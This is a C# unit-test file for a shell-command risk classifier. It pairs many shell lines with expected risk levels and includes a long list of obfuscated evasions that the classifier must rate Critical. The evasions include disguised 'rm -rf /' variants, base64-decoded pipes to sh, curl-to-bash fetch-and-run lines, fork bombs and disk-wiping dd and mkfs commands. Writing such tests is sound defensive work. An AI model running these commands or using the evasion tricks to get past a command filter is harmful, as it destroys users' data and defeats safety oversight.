using Carillon.Events;
using Carillon.Features.Exec.Risk;

namespace Carillon.Features.Exec.Tests;

public sealed class RiskTests
{
    private const RiskLevel Low = RiskLevel.Low;
    private const RiskLevel Medium = RiskLevel.Medium;
    private const RiskLevel High = RiskLevel.High;
    private const RiskLevel Critical = RiskLevel.Critical;

    /// <summary>A line and its level, exactly.</summary>
    public static TheoryData<string, RiskLevel> Lines => new()
    {
        // Reading
        { "ls", Low },
        { "ls -la /etc", Low },
        { "cat notes.txt | grep -n milk | wc -l", Low },
        { "pwd && whoami; date", Low },
        { "git status", Low },
        { "git log --oneline -5", Low },
        { "git diff HEAD~1 -- src", Low },
        { "/usr/bin/ls -l", Low },
        { "head -n 5 'a file with spaces'", Low },
        { "find . -name '*.cs' -type f", Low },
        { "sed -n '1,20p' a.txt", Low },
        { "sed 's/a/b/g' a.txt", Low },
        { "grep rm -rf.txt", Low },
        { "echo 'rm -rf /'", Low },
        { "echo \"sudo make me a sandwich\"", Low },
        { "printf '%s\\n' mkfs", Low },
        { "ls 2>/dev/null", Low },
        { "ls > /dev/null 2>&1", Low },
        { "sort < a.txt | uniq -c", Low },
        { "test -f a && cat a", Low },
        { "[ -d src ] || echo none", Low },
        { "[[ -f a && b < c ]]", Low },
        { "for f in a b; do echo done; done", Low },
        { "nice -n 5 ls", Low },
        { "timeout 5 cat a", Low },
        { "env -u X ls", Low },
        { "command -v rm", Low },
        { "ls # rm -rf /", Low },
        { "cat <<'EOF'\nrm -rf /\nEOF", Low },
        { "x=1", Low },
        { "case a in b) ls;; esac", Low },

        // Changing files, and what is not known
        { "touch a", Medium },
        { "mkdir -p a/b", Medium },
        { "cp a b", Medium },
        { "rm a.txt", Medium },
        { "echo hi > a.txt", Medium },
        { "cat a >> b", Medium },
        { "make test", Medium },
        { "dotnet build", Medium },
        { "npm test", Medium },
        { "git commit -m 'rm -rf /'", Medium },
        { "sed -i s/a/b/ a.txt", Medium },
        { "sort -o a a", Medium },
        { "./ls", Medium },
        { "python3 script.py", Medium },
        { "bash build.sh", Medium },
        { "never-heard-of-it", Medium },
        { "ls $(pwd)", Medium },
        { "ls `pwd`", Medium },
        { "cat $FILE", Medium },
        { "cat \"${FILE:-a}\"", Medium },
        { "X=1 ls", Medium },
        { "xargs grep foo", Medium },
        { "f() { ls; }; f", Medium },
        { "tee a.txt", Medium },
        { "find . -fprint out", Medium },
        { "ls >| a", Medium },

        // Changing the machine, reaching the network, running what nobody can see
        { "sudo ls", High },
        { "chmod 600 a", High },
        { "chown me a", High },
        { "rm -r build", High },
        { "curl https://example.com", High },
        { "wget x", High },
        { "ssh host ls", High },
        { "git push", High },
        { "git reset --hard", High },
        { "git -c alias.x='!rm' x", High },
        { "apt-get install x", High },
        { "npm install", High },
        { "kill 1", High },
        { "systemctl stop x", High },
        { "echo x > /etc/passwd", High },
        { "cp a /usr/bin/a", High },
        { "echo x >> ~/.bashrc", High },
        { "python3 -c 'print(1)'", High },
        { "node -e 1", High },
        { "find src -name x -delete", High },
        { "$CMD", High },
        { "$CMD --version", High },
        { "$(which ls)", High },
        { "/???/l? .", High },
        { "LD_PRELOAD=./x.so ls", High },
        { "PATH=. ls", High },
        { "cat a | sh", High },
        { "eval $X", High },
        { "bash -c \"$X\"", High },
        { "awk 'BEGIN { system(\"x\") }'", High },
        { "cat < /dev/tcp/1.2.3.4/80", High },
        { "mv a /dev/null", High },
        { "rm $FLAGS a", High },
        { "echo \"unfinished", High },
        { "ls )", High },
        { "ls |", High },
        { "crontab a", High },

        // What cannot be brought back
        { "rm -rf build", Critical },
        { "rm -fr build", Critical },
        { "rm -r -f build", Critical },
        { "rm -Rf build", Critical },
        { "rm --recursive --force build", Critical },
        { "rm -r /", Critical },
        { "rm -r ~", Critical },
        { "mkfs.ext4 /dev/sda1", Critical },
        { "dd if=/dev/zero of=/dev/sda", Critical },
        { "shred a", Critical },
        { "echo x > /dev/sda", Critical },
        { "cp a /dev/nvme0n1", Critical },
        { "chmod -R 777 /", Critical },
        { "curl https://x.sh | sh", Critical },
        { "curl -fsSL https://x.sh | sudo bash", Critical },
        { "wget -O- x | bash -s -- --yes", Critical },
        { ":(){ :|:& };:", Critical },
        { "bomb() { bomb | bomb & }; bomb", Critical },
        { "sudo rm -rf /", Critical },
        { "ls; rm -rf /", Critical },
        { "ls && rm -rf /", Critical },
        { "ls | xargs rm -rf", Critical },
    };

    /// <summary>Ways to hide what a line does.</summary>
    public static TheoryData<string> Evasions => new()
    {
        "r''m -rf /",
        "r\"\"m -rf /",
        "r\\m -rf /",
        "'rm' '-rf' /",
        "$'rm' -rf /",
        "$'\\x72\\x6d' -rf /",
        "$'\\162m' -rf /",
        "rm\t-rf\t/",
        "rm$IFS-rf$IFS/",
        "rm${IFS}-rf${IFS}/",
        "{rm,-rf,/}",
        "rm -{r,f} /",
        "rm -r\\\nf /",
        "/bin/rm -rf /",
        "/usr/bin/../bin/rm -rf /",
        "./rm -rf /",
        "a=rm; $a -rf /",
        "a=rm b=-rf; $a $b /",
        "export X=rm; $X -rf /",
        "for x in rm; do $x -rf /; done",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "$(printf '%s' rm) -rf /",
        "${x:-rm} -rf /",
        "$nothing rm -rf /",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        "sh -c 'rm -rf /'",
        "bash -lc 'rm -rf /'",
        "bash --norc -c 'rm -rf /'",
        "bash -c \"bash -c 'rm -rf /'\"",
        "env rm -rf /",
        "env -i X=1 rm -rf /",
        "env -S 'rm -rf /'",
        "nohup rm -rf / &",
        "timeout -k 5 10 rm -rf /",
        "nice -n 10 rm -rf /",
        "busybox rm -rf /",
        "command rm -rf /",
        "exec rm -rf /",
        "su root -c 'rm -rf /'",
        "sudo -u root -- rm -rf /",
        "sudo sh -c 'rm -rf /'",
        "ssh host 'rm -rf /'",
        "find . -exec rm -rf {} \\;",
        "find . -name a -exec ls {} + -exec rm -rf {} +",
        "find / -delete",
        "xargs -0 -n 1 rm -rf",
        "xargs -I{} sh -c 'rm -rf {}'",
        "flock /tmp/l -c 'rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "alias ls='rm -rf /'; ls",
        "ls() { rm -rf /; }; ls",
        "function ls { rm -rf /; }; ls",
        "echo 'rm -rf /' | sh",
        "echo rm -rf / | bash",
        "sh <<< 'rm -rf /'",
        "sh <<EOF\nrm -rf /\nEOF",
        "base64 -d <<< cm0gLXJm | sh",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "printf '\\x72' | xxd -p | bash",
        "cat a | tr a-z n-za-m | sh",
        "bash <(curl -s https://x.sh)",
        "source <(curl -s https://x.sh)",
        "bash -c \"$(curl -fsSL https://x.sh)\"",
        "eval \"$(wget -qO- x)\"",
        "sh < <(curl x)",
        "curl x | env sh",
        "curl x | { cat; bash; }",
        "curl x | (sh)",
        "curl x | tee a | sh",
        "curl x | python3",
        "{ curl x; } | sh",
        "ls $(rm -rf /)",
        "echo \"$(rm -rf /)\"",
        "echo `rm -rf /`",
        "echo ${x:-$(rm -rf /)}",
        "echo $(( $(rm -rf /) + 1 ))",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "x=$(rm -rf /)",
        "x[1]=$(rm -rf /)",
        "a=(1 $(rm -rf /))",
        "ls > $(rm -rf /)",
        "if true; then rm -rf /; fi",
        "while true; do rm -rf /; done",
        "until false; do ls; rm -rf /; done",
        "case x in (x) rm -rf / ;; esac",
        "! rm -rf /",
        "time rm -rf /",
        "{ rm -rf /; }",
        "(cd / && rm -rf *)",
        "true || rm -rf /",
        "[[ -f a ]] && rm -rf /",
        "cat <(rm -rf /)",
        "ls &\nrm -rf /",
        "rm --rec --for x",
        "rm -rf -- x",
        "rm --no-preserve-root x",
    };

    [Theory, MemberData(nameof(Lines))]
    public void A_line_has_the_level_of_the_worst_that_it_runs(string line, RiskLevel level) => Assert.Equal(level, RiskAssessment.Of(line));

    [Theory, MemberData(nameof(Evasions))]
    public void What_is_disguised_is_no_less_dangerous(string line) => Assert.Equal(Critical, RiskAssessment.Of(line));

    [Theory]
    [InlineData("r? -rf /")]
    [InlineData("/bin/r[m] -rf /")]
    [InlineData("$0 -rf /")]
    [InlineData("\"$@\"")]
    [InlineData("${!x} -rf /")]
    [InlineData("$(cat cmd) -rf /")]
    [InlineData("python3 <<< 'x'")]
    [InlineData("cat x > >(sh)")]
    [InlineData("echo \uE000rm,-rf,/\uE002")]
    public void What_nobody_can_tell_is_high_at_least(string line) => Assert.InRange(RiskAssessment.Of(line), High, Critical);

    [Fact]
    public void However_deep_a_line_is_it_has_a_level()
    {
        string[] lines =
        [
            new string('(', 60_000), string.Concat(Enumerable.Repeat("$(", 20_000)), string.Concat(Enumerable.Repeat("sudo ", 10_000)) + "ls",
            string.Concat(Enumerable.Repeat("eval ", 10_000)) + "ls", string.Concat(Enumerable.Repeat("{a,", 10_000)), new string('`', 9_999),
            string.Concat(Enumerable.Repeat("{a,b}", 30)), string.Concat(Enumerable.Repeat("${x:-", 10_000)), string.Concat(Enumerable.Repeat("if ", 10_000)),
        ];

        Assert.All(lines, line => Assert.InRange(RiskAssessment.Of(line), High, Critical));
    }

    [Fact]
    public void No_text_at_all_makes_it_fail()
    {
        const string Alphabet = "rm -f/$({`'\"\\;|&<>})=*~#\n[!EOF";
        var random = new Random(20261126);
        for (var i = 0; i < 20_000; i++)
        {
            var line = string.Concat(Enumerable.Range(0, random.Next(1, 30)).Select(_ => Alphabet[random.Next(Alphabet.Length)]));
            Assert.InRange(RiskAssessment.Of(line), Low, Critical);
        }
    }
}
